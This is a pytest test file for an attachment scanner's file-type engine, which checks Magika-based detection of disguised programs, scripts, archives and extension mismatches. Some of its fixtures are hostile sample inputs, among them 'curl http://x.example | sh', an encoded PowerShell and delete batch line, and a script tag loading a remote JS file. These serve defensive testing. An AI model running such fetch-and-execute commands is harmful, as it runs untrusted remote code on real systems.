@@ -1,0 +1,346 @@
+"""File-type engine: Magika detection with structural corrections, and the extension checks.
+
+Fixtures are built here; programs come from Debian's clamav-testfiles and /bin/true. Magika
+labels observed (magika 1.0.3, standard_v3_3) are noted where a test depends on them.
+"""
+
+from __future__ import annotations
+
+import io
+import random
+import struct
+import wave
+import zipfile
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+
+import pytest
+from PIL import Image
+
+from attachguard.codes import FindingCode
+from attachguard.engines.base import Item
+from attachguard.engines.filetype import FileTypeEngine, sniff_program
+from attachguard.policy import Policy
+from attachguard.report import Finding
+
+CLAM_EXE = Path("/usr/share/clamav-testfiles/clam.exe")
+ELF = Path("/bin/true")
+needs_clam = pytest.mark.skipif(not CLAM_EXE.exists(), reason="clamav-testfiles not installed")
+
+
+@pytest.fixture(scope="module")
+def engine() -> FileTypeEngine:
+    return FileTypeEngine()
+
+
+def scan(engine: FileTypeEngine, policy: Policy, name: str, data: bytes, depth: int = 0):
+    item = Item(name, data, engine.detect(data), depth)
+    return engine.scan(item, policy).findings
+
+
+def codes(findings: list[Finding]) -> set[FindingCode]:
+    return {f.code for f in findings}
+
+
+# --- fixture builders ---------------------------------------------------------------------
+
+
+def image_bytes(fmt: str, size: tuple[int, int] = (160, 120)) -> bytes:
+    img = Image.new("RGB", size)
+    for x in range(size[0]):  # some structure, so encoders produce typical streams
+        img.putpixel((x, x % size[1]), (x % 256, 80, 160))
+    buf = io.BytesIO()
+    if fmt == "HEIF":
+        import pillow_heif
+
+        pillow_heif.register_heif_opener()
+    img.save(buf, fmt)
+    return buf.getvalue()
+
+
+_CT = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.'
+    'openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="'
+    'application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
+    'ContentType="application/xml"/><Override PartName="/{part}" ContentType="{ct}"/></Types>'
+)
+_RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://'
+    'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http'
+    '://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
+    'Target="{part}"/></Relationships>'
+)
+_OOXML = {
+    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
+    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
+    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
+}
+
+
+def ooxml(kind: str) -> bytes:
+    """A small but well-formed Office Open XML package, laid out the way Office writes it."""
+    part, ct = _OOXML[kind]
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        ct_full = f"application/vnd.openxmlformats-officedocument.{ct}"
+        z.writestr("[Content_Types].xml", _CT.format(part=part, ct=ct_full))
+        z.writestr("_rels/.rels", _RELS.format(part=part))
+        z.writestr(part, '<?xml version="1.0"?><root>Returns are accepted within 30 days.</root>')
+        z.writestr("docProps/app.xml", "<Properties><Application>Microsoft Office</Application>")
+    return buf.getvalue()
+
+
+def box(kind: bytes, payload: bytes) -> bytes:
+    return struct.pack(">I", 8 + len(payload)) + kind + payload
+
+
+def iso_media(brand: bytes) -> bytes:
+    """An ISO media file (ftyp, moov with a header, mdat): the shape of a phone video."""
+    ftyp = box(b"ftyp", brand + b"\0\0\2\0" + brand + b"isomavc1mp41")
+    mvhd = box(b"mvhd", b"\0" * 4 + struct.pack(">IIII", 0, 0, 1000, 5000) + b"\0" * 80)
+    moov = box(b"moov", mvhd + box(b"trak", box(b"tkhd", b"\0" * 84)))
+    return ftyp + moov + box(b"mdat", random.Random(7).randbytes(20_000))
+
+
+def wav_bytes() -> bytes:
+    buf = io.BytesIO()
+    with wave.open(buf, "wb") as w:
+        w.setnchannels(1)
+        w.setsampwidth(2)
+        w.setframerate(8000)
+        w.writeframes(b"\0\1" * 8000)
+    return buf.getvalue()
+
+
+HTML = b"<html><body><h1>Order</h1><script>document.location='http://x.example'</script></body></html>\n"
+SVG = (
+    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+    b'<script>alert(1)</script><rect width="10" height="10"/></svg>\n'
+)
+LETTER = b"Dear support,\n\nMy parcel arrived broken. The order number is 12345.\n\nThanks, Ann\n"
+CSV = b"name,amount,date\nAlice,12.50,2024-01-01\nBob,-3.20,2024-01-02\n"
+
+
+# --- clean files of every allowed type ------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "build", "label"),
+    [
+        ("photo.jpg", lambda: image_bytes("JPEG"), "jpeg"),
+        ("photo.JPEG", lambda: image_bytes("JPEG"), "jpeg"),
+        ("photo.jfif", lambda: image_bytes("JPEG"), "jpeg"),  # .jfif is a JPEG by another name
+        ("photo.png", lambda: image_bytes("PNG"), "png"),
+        ("photo.heic", lambda: image_bytes("HEIF"), "heif"),  # Magika alone says mp4 (~0.51)
+        ("letter.docx", lambda: ooxml("docx"), "docx"),
+        ("sheet.xlsx", lambda: ooxml("xlsx"), "xlsx"),
+        ("slides.pptx", lambda: ooxml("pptx"), "pptx"),
+        ("clip.mp4", lambda: iso_media(b"isom"), "mp4"),
+        ("clip.mov", lambda: iso_media(b"qt  "), None),  # Magika: mp4 or qt, weakly
+        ("voice.wav", wav_bytes, "wav"),
+        ("letter.txt", lambda: LETTER, "txt"),
+        ("orders.csv", lambda: CSV, "csv"),
+        ("note.txt", lambda: b"ok", "txt"),  # too small for the model: Magika's text fallback
+        ("policy.rtf", lambda: b"{\\rtf1\\ansi Returns within 30 days.\\par}", "rtf"),
+        ("old.doc", lambda: b"{\\rtf1\\ansi Returns within 30 days.\\par}", "rtf"),  # Word opens it
+    ],
+)
+def test_clean_files_have_no_findings(engine, policy, name, build, label):
+    data = build()
+    detected = engine.detect(data)
+    if label:
+        assert detected.label == label
+    assert scan(engine, policy, name, data) == []
+
+
+def test_heic_is_detected_as_heif_from_its_brand(engine):
+    detected = engine.detect(image_bytes("HEIF"))
+    assert (detected.label, detected.group, detected.mime) == ("heif", "image", "image/heic")
+
+
+def test_office_package_that_magika_calls_zip_is_recognised(engine, policy):
+    # Large random members push Office's part names out of Magika's view: it says zip/unknown.
+    rnd = random.Random(3)
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("photos/a.dat", rnd.randbytes(3000))
+        z.writestr("[Content_Types].xml", "<Types/>")
+        z.writestr("xl/workbook.xml", "<workbook/>")
+        z.writestr("photos/b.dat", rnd.randbytes(3000))
+    data = buf.getvalue()
+    assert str(engine._magika().identify_bytes(data).output.label) in {"zip", "unknown"}
+    assert engine.detect(data).label == "xlsx"
+    assert scan(engine, policy, "sheet.xlsx", data) == []
+
+
+# --- programs, scripts, archives ------------------------------------------------------------
+
+
+@needs_clam
+def test_windows_program_named_pdf(engine, policy):
+    findings = scan(engine, policy, "invoice.pdf", CLAM_EXE.read_bytes())
+    assert codes(findings) == {FindingCode.EXECUTABLE, FindingCode.TYPE_MISMATCH}
+    messages = {f.code: f.message for f in findings}
+    assert messages[FindingCode.EXECUTABLE] == "Windows program (.exe) disguised as a .pdf file"
+    assert messages[FindingCode.TYPE_MISMATCH] == "a Windows program (.exe) named .pdf"
+
+
+@needs_clam
+def test_truncated_windows_program_is_still_a_program(engine, policy):
+    head = CLAM_EXE.read_bytes()[:120]  # Magika: coff, score ~0.56
+    assert FindingCode.EXECUTABLE in codes(scan(engine, policy, "a.pdf", head))
+
+
+def test_linux_program_named_jpg(engine, policy):
+    findings = scan(engine, policy, "photo.jpg", ELF.read_bytes())
+    assert codes(findings) == {FindingCode.EXECUTABLE, FindingCode.TYPE_MISMATCH}
+    assert "Linux program disguised as a .jpg file" in {f.message for f in findings}
+
+
+def test_tiny_elf_header_magika_calls_text(engine, policy):
+    head = ELF.read_bytes()[:64]
+    assert str(engine._magika().identify_bytes(head).output.label) == "txt"  # Magika misses it
+    assert engine.detect(head).label == "elf"
+    assert FindingCode.EXECUTABLE in codes(scan(engine, policy, "note.txt", head))
+
+
+def test_shebang_script_named_txt(engine, policy):
+    findings = scan(engine, policy, "readme.txt", b"#!/bin/sh\ncurl http://x.example | sh\n")
+    assert FindingCode.EXECUTABLE in codes(findings)
+
+
+def test_text_starting_with_mz_is_not_a_program(engine, policy):
+    data = b"MZ Logistics - delivery note for order 4711, two boxes, signed by the driver.\n" * 2
+    assert sniff_program(data) is None
+    assert scan(engine, policy, "note.txt", data) == []
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "label"),
+    [
+        ("page.txt", HTML, "html"),
+        ("image.png", SVG, "svg"),
+        ("run.txt", b"@echo off\r\npowershell -enc AAAA\r\ndel C:\\x\r\n", "batch"),
+        (
+            "notes.txt",
+            b'var s = document.createElement("script"); s.src = "http://e/x.js";\n',
+            None,
+        ),
+    ],
+)
+def test_scripts_and_active_markup(engine, policy, name, data, label):
+    if label:
+        assert engine.detect(data).label == label
+    findings = scan(engine, policy, name, data)
+    assert FindingCode.SCRIPT in codes(findings)
+    assert FindingCode.TYPE_MISMATCH in codes(findings)
+    assert any("disguised as a" in f.message for f in findings if f.code is FindingCode.SCRIPT)
+
+
+def test_plain_zip_named_docx(engine, policy):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("invoice.txt", "hello " * 100)
+        z.writestr("photo.txt", "x" * 1000)
+    findings = scan(engine, policy, "report.docx", buf.getvalue())  # Magika: zip
+    assert codes(findings) == {FindingCode.TYPE_MISMATCH, FindingCode.ARCHIVE}
+    assert "a ZIP archive named .docx" in {f.message for f in findings}
+
+
+def test_archive_allowed_when_the_operator_allows_its_extension(engine, policy):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("a.txt", "hello " * 100)
+    data = buf.getvalue()
+    assert codes(scan(engine, policy, "files.zip", data)) == {
+        FindingCode.EXTENSION_NOT_ALLOWED,
+        FindingCode.ARCHIVE,
+    }
+    allowing = policy.model_copy(
+        update={"allowed_extensions": [*policy.allowed_extensions, ".zip"]}
+    )
+    assert scan(engine, allowing, "files.zip", data) == []
+
+
+# --- extensions, mismatches, empty ----------------------------------------------------------
+
+
+def test_extension_not_allowed(engine, policy):
+    findings = scan(engine, policy, "notes.md", LETTER)
+    assert [f.message for f in findings] == ["'.md' files are not allowed"]
+
+
+def test_no_extension_is_not_allowed(engine, policy):
+    findings = scan(engine, policy, "README", LETTER)
+    assert codes(findings) == {FindingCode.EXTENSION_NOT_ALLOWED}
+    assert findings[0].message == "files without an extension are not allowed"
+
+
+def test_photo_formats_are_interchangeable(engine, policy):
+    # apps save PNG under .jpg; both are decoded and moderated as images whatever the name
+    assert scan(engine, policy, "photo.jpg", image_bytes("PNG")) == []
+    assert scan(engine, policy, "photo.png", image_bytes("JPEG")) == []
+    findings = scan(engine, policy, "photo.jpg", b"%PDF-1.7\n" + LETTER)
+    assert codes(findings) == {FindingCode.TYPE_MISMATCH}
+
+
+def test_text_named_pdf_is_a_mismatch(engine, policy):
+    assert codes(scan(engine, policy, "contract.pdf", LETTER)) == {FindingCode.TYPE_MISMATCH}
+
+
+def test_unrecognised_binary_under_a_binary_extension_fails_closed(engine, policy):
+    data = random.Random(5).randbytes(5000)
+    assert engine.detect(data).label == "unknown"
+    findings = scan(engine, policy, "scan.pdf", data)
+    assert [f.message for f in findings] == ["content not recognised as a PDF document (.pdf)"]
+
+
+def test_binary_named_txt_is_a_mismatch(engine, policy):
+    findings = scan(engine, policy, "notes.txt", random.Random(5).randbytes(5000))
+    assert [f.message for f in findings] == ["unrecognised binary data named .txt"]
+
+
+def test_operator_added_extension_uses_magikas_extension_table(engine, policy):
+    allowing = policy.model_copy(
+        update={"allowed_extensions": [*policy.allowed_extensions, ".gif"]}
+    )
+    assert scan(engine, allowing, "anim.gif", image_bytes("GIF")) == []
+    assert codes(scan(engine, allowing, "anim.gif", image_bytes("PNG"))) == {
+        FindingCode.TYPE_MISMATCH
+    }
+
+
+def test_empty_file(engine, policy):
+    findings = scan(engine, policy, "empty.pdf", b"")
+    assert [(f.code, f.code.kind) for f in findings] == [(FindingCode.EMPTY_FILE, "info")]
+
+
+# --- things inside other files ---------------------------------------------------------------
+
+
+@needs_clam
+def test_children_skip_name_checks_but_not_programs_or_scripts(engine, policy):
+    zipped = io.BytesIO()
+    with zipfile.ZipFile(zipped, "w") as z:
+        z.writestr("a.txt", "hello " * 100)
+    # Office embeddings and media: any content, any name, no extension rules.
+    assert scan(engine, policy, "word/embeddings/oleObject1.bin", zipped.getvalue(), 1) == []
+    assert scan(engine, policy, "word/media/image1.png", image_bytes("JPEG"), 1) == []
+    assert scan(engine, policy, "word/media/image2.svg", SVG, 1) == []  # Office writes SVGs
+    exe = scan(engine, policy, "word/media/payload.png", CLAM_EXE.read_bytes(), 1)
+    assert [(f.code, f.message) for f in exe] == [
+        (FindingCode.EXECUTABLE, "Windows program (.exe)")
+    ]
+    assert codes(scan(engine, policy, "attachment:page.html", HTML, 1)) == {FindingCode.SCRIPT}
+
+
+def test_detect_is_safe_from_many_threads(engine):
+    samples = [image_bytes("PNG"), LETTER, ELF.read_bytes(), ooxml("docx")]
+    expected = [engine.detect(s).label for s in samples]
+    with ThreadPoolExecutor(max_workers=4) as pool:
+        results = list(pool.map(lambda i: engine.detect(samples[i % 4]).label, range(40)))
+    assert results == expected * 10
+
+
+def test_version_names_magika_and_model(engine):
+    assert engine.version().startswith("magika ") and "standard_v3" in engine.version()
